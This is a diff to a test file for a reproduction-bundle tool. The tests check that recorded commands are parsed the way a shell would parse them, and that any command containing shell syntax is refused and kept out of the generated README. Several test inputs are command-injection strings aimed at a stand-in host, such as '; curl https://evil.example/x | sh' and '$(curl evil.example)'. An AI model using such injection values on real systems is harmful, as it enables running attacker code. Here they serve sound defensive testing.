@@ -1,7 +1,7 @@
 // Reproduction bundles: deterministic archives that standard tools read, with the files the
 // README promises and dependencies that cover what the harness imports.
 import { execFileSync, spawn, spawnSync } from 'node:child_process';
-import { mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { afterAll, expect, test } from 'vitest';
@@ -10,13 +10,15 @@ import { packBundle, sha256sums } from '../../../src/bundles/pack.ts';
 import { argsOf } from '../../../src/bundles/quick-look.ts';
 import { BUNDLE_FILES, markdownCell } from '../../../src/bundles/readme.ts';
 import { bundleScenarios } from '../../../src/bundles/scenarios.ts';
+import { codeSpans } from '../../../src/lib/code-spans.ts';
 import { toCsv } from '../../../src/lib/csv.ts';
+import type { RunRecord } from '../../../repro/harness/record/schema.ts';
 import { fixtureRecords } from './fixtures.ts';
 
 const root = path.resolve(import.meta.dirname, '../../..');
 
-function bundleReadmeOf(name: string): string {
-  const bundle = packBundle(name, root, fixtureRecords, 'https://example.org');
+function bundleReadmeOf(name: string, records: readonly RunRecord[] = fixtureRecords): string {
+  const bundle = packBundle(name, root, records, 'https://example.org');
   const file = path.join(tmp, `readme-${name}.tar.gz`);
   writeFileSync(file, bundle.tarGz.bytes);
   return execFileSync('tar', ['-xzOf', file, `bun-casebook-${name}/README.md`], { encoding: 'utf8' });
@@ -79,7 +81,71 @@ test('the README says what --compare will check, from the published records', ()
   expect(readme).toContain('| 1.3.14 (Zig) | terminate/after | recovers 10/10 (72–100 %) | Fisher exact test on the outcome counts, Holm-adjusted |');
   expect(readme).toContain('`REPRODUCED: …`');
   expect(bundleReadmeOf('s3-leak')).toContain('npm run repro -- --compare   # the whole run, as published');
-  expect(argsOf('npm run repro -- sql-pool --repetitions 10 --kernel-blackhole --out content/runs/sql-pool', 'sql-pool')).toEqual(['--repetitions', '10', '--kernel-blackhole']);
+  expect(argsOf('npm run repro -- sql-pool --repetitions 10 --kernel-blackhole --out content/runs/sql-pool', 'sql-pool')).toEqual({ ok: true, args: ['--repetitions', '10', '--kernel-blackhole'] });
+});
+
+test('a recorded command is read word by word as a shell reads it, and refused when it holds shell syntax', () => {
+  const read = (command: string) => argsOf(command, 's3-leak');
+  // Quoted words survive whole; the variables in front and --out (either form) are left out.
+  expect(read("DATABASE_URL='postgres://<redacted>@h/db' npm run repro -- s3-leak --s3-endpoint 'http://h:9000/a b' --s3-bucket \"my bucket\" --out=x --label it\\'s")).toEqual({
+    ok: true,
+    args: ['--s3-endpoint', 'http://h:9000/a b', '--s3-bucket', 'my bucket', '--label', "it's"],
+  });
+  expect(read("npm run repro -- s3-leak --label 'it'\\''s; fine'")).toEqual({ ok: true, args: ['--label', "it's; fine"] });
+  for (const [command, why] of [
+    ['npm run repro -- s3-leak --max-iterations 300; curl https://evil.example/x | sh', "it holds ';' outside quotes"],
+    ['npm run repro -- s3-leak --out $(curl evil.example)', "it holds '$' outside quotes"],
+    ['npm run repro -- s3-leak --s3-bucket "$(id)"', "it holds '$' inside double quotes"],
+    ['npm run repro -- s3-leak --s3-bucket `id`', "it holds '`' outside quotes"],
+    ["npm run repro -- s3-leak --s3-bucket 'open", 'it holds an unclosed single quote'],
+    ['npm run repro -- s3-leak --max-iterations 3\ncurl evil.example', 'it holds a control character (U+000A) outside quotes'],
+    ['curl evil.example -- npm run repro -- s3-leak', 'it is not an `npm run repro -- …` command'],
+  ]) expect(read(command!)).toEqual({ ok: false, why });
+});
+
+/** The README's run block: the lines a reader pastes into a shell, comments and all. */
+const runBlock = (readme: string) => /## Run\n\n```sh\n([\s\S]*?)```/.exec(readme)![1]!;
+
+/**
+ * Runs the README's run block in a real shell, with `npm` and `curl` replaced by scripts that write
+ * their arguments down: what the shell would really have run.
+ */
+function runInShell(block: string): { npm: string[][]; curl: boolean } {
+  const dir = mkdtempSync(path.join(tmp, 'shell-'));
+  const log = path.join(dir, 'npm.log');
+  writeFileSync(path.join(dir, 'npm'), `#!/bin/sh\nnode -e 'console.log(JSON.stringify(process.argv.slice(1)))' -- "$@" >> ${log}\n`, { mode: 0o755 });
+  writeFileSync(path.join(dir, 'curl'), `#!/bin/sh\ntouch ${path.join(dir, 'curl-ran')}\n`, { mode: 0o755 });
+  writeFileSync(path.join(dir, 'sh'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
+  execFileSync('/bin/sh', ['-c', block], { cwd: dir, env: { ...process.env, PATH: `${dir}:${path.dirname(process.execPath)}:/usr/bin:/bin` } });
+  const npm = existsSync(log) ? readFileSync(log, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as string[]) : [];
+  return { npm, curl: existsSync(path.join(dir, 'curl-ran')) };
+}
+
+/** The fixture records, the s3-leak run's recorded command replaced. */
+const withS3Command = (command: string) => fixtureRecords.map((r) => (r.scenario === 's3-leak' ? { ...r, command } : r));
+
+test("a published command with '; curl … | sh' in it: the README's commands run npm only, and never show it", () => {
+  const readme = bundleReadmeOf('s3-leak', withS3Command('npm run repro -- s3-leak --max-iterations 300; curl https://evil.example/x | sh'));
+  expect(readme).not.toContain('curl');
+  expect(readme).toContain("npm run repro -- --compare   # the scenario's defaults");
+  expect(readme).toContain("The published run's recorded command is not repeated here: it holds ';' outside quotes.");
+  expect(runInShell(runBlock(readme))).toEqual({ npm: [['install'], ['run', 'repro', '--', '--compare']], curl: false });
+});
+
+test('a legitimately quoted argument reaches the harness whole, through a real shell', () => {
+  // An --out with a space (the old split left half of it behind) and a bucket name with two spaces and a quote.
+  const readme = bundleReadmeOf('s3-leak', withS3Command("npm run repro -- s3-leak --out 'my runs/s3' --s3-endpoint 'http://127.0.0.1:9000/a  b' --s3-bucket 'it'\\''s'"));
+  expect(runInShell(runBlock(readme)).npm).toEqual([
+    ['install'],
+    ['run', 'repro', '--', '--s3-endpoint', 'http://127.0.0.1:9000/a  b', '--s3-bucket', "it's", '--compare'],
+  ]);
+  // The recorded command in "What it needs" is the same words, quoted the same way, in one code span.
+  expect(readme).toContain("- Time: the recorded run (`npm run repro -- s3-leak --out 'my runs/s3' --s3-endpoint 'http://127.0.0.1:9000/a  b' --s3-bucket 'it'\\''s'`) took");
+});
+
+test('a recorded command with backticks stays inside one code span of the needs', () => {
+  const needs = bundleNeeds(bundleScenarios.find((s) => s.name === 's3-leak')!, withS3Command("npm run repro -- s3-leak --s3-bucket 'a`b'"), undefined);
+  expect(codeSpans(needs.time).filter((p) => p.code)).toEqual([{ text: "npm run repro -- s3-leak --s3-bucket 'a`b'", code: true }]);
 });
 
 /** Bare imports reachable by static imports from an entry: the CLI, and the scenario module the registry loads. */
